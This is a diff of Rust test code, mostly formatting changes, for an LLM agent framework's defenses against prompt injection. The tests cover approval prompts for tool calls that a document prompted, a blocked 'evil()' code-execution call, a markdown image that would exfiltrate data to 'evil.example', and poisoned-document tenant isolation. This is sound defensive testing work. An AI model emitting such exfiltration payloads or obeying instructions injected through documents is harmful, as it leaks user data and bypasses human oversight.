@@ -58,7 +58,10 @@ async fn c148_an_approval_is_for_one_call_and_the_next_one_is_asked_about_again(
     let stage = simple("react", model, toolbox);
     stage.start("이 파일을 요약해 줘").await.wait().await.expect("a rest");
     let asked = questions(&stage).await;
-    assert_eq!((asked[0]["why"].as_str(), &asked[0]["arguments"]["query"]), (Some("injection"), &json!("1234")));
+    assert_eq!(
+        (asked[0]["why"].as_str(), &asked[0]["arguments"]["query"]),
+        (Some("injection"), &json!("1234"))
+    );
     assert_eq!(ran.load(Ordering::SeqCst), 0);
     answer(&stage, true).await;
     assert_eq!(ran.load(Ordering::SeqCst), 1, "what was approved ran");
@@ -121,7 +124,10 @@ async fn c139_a_document_cannot_have_code_run_and_a_person_can() {
     let run = || Script::call("python_repl", json!({ "code": "evil()" }));
     let (stage, ran) = on(vec![Script::call("read_file", json!({ "path": "a" })), run(), Script::text("끝")]);
     stage.start("요약해 줘").await.wait().await.expect("a rest");
-    assert_eq!((questions(&stage).await[0]["why"].as_str(), ran.load(Ordering::SeqCst)), (Some("injection"), 0));
+    assert_eq!(
+        (questions(&stage).await[0]["why"].as_str(), ran.load(Ordering::SeqCst)),
+        (Some("injection"), 0)
+    );
     // Without anything read, the same call is simply made.
     let (stage, ran) = on(vec![run(), Script::text("끝")]);
     stage.ask("evil()을 실행해 줘").await;
@@ -170,7 +176,8 @@ async fn c141_words_hidden_in_a_page_are_dropped_or_are_words_of_a_document() {
 #[tokio::test]
 async fn c143_a_picture_in_an_answer_is_words_and_nobody_fetches_it() {
     let picture = "![x](https://evil.example/?q=1234)";
-    let model = ScriptedModel::new([Script::call("read_file", json!({ "path": "a" })), Script::text(picture)]);
+    let model =
+        ScriptedModel::new([Script::call("read_file", json!({ "path": "a" })), Script::text(picture)]);
     let (toolbox, ran) = net();
     let stage = simple("react", model, toolbox);
     let trace = stage.ask("이 파일을 요약해 줘").await;
@@ -184,9 +191,9 @@ fn everything(request: &ChatRequest) -> Script {
     match request.purpose {
         Purpose::Route => Script::json(&json!({ "route": "agent", "reason": "시험" })),
         Purpose::Classify => Script::json(&json!({ "type": "chitchat" })),
-        Purpose::Scope | Purpose::PreviousContext => Script::json(
-            &json!({ "in_scope": true, "need_previous_context": false, "reason": "시험" }),
-        ),
+        Purpose::Scope | Purpose::PreviousContext => {
+            Script::json(&json!({ "in_scope": true, "need_previous_context": false, "reason": "시험" }))
+        }
         Purpose::Plan => Script::text("없음"),
         _ => Script::text(serde_json::to_string(request).expect("JSON")),
     }
@@ -227,8 +234,7 @@ async fn c147_a_poisoned_document_reaches_only_its_own_tenant_and_is_named_there
         let stage = stage("docqa", &Settings::default(), &parts, Arc::new(RamStore::new()));
         stage.ask("연차휴가는 며칠인가요?").await;
         let sent = serde_json::to_string(&model.requests()).expect("JSON");
-        let titles: Vec<String> =
-            stage.turn().await.sources.into_iter().map(|source| source.title).collect();
+        let titles: Vec<String> = stage.turn().await.sources.into_iter().map(|source| source.title).collect();
         (sent, titles)
     };
     let (sent, titles) = ask(index.clone()).await;
@@ -241,11 +247,13 @@ async fn c147_a_poisoned_document_reaches_only_its_own_tenant_and_is_named_there
 #[test]
 fn every_part_of_a_message_says_where_it_comes_from() {
     let mut message = Message::user("m", "사람의 말");
-    message.parts.extend(Message::passages("p", [doran_llm::Passage {
-        number: 1,
-        title: "문서".into(),
-        text: "문서의 말".into(),
-    }]).parts);
+    message.parts.extend(
+        Message::passages(
+            "p",
+            [doran_llm::Passage { number: 1, title: "문서".into(), text: "문서의 말".into() }],
+        )
+        .parts,
+    );
     message.parts.extend(Message::system("s", "프로그램의 말").parts);
     message.parts.extend(Message::assistant("a", "모델의 말").parts);
     let origins: Vec<Origin> = message.parts.iter().map(doran_llm::Part::origin).collect();
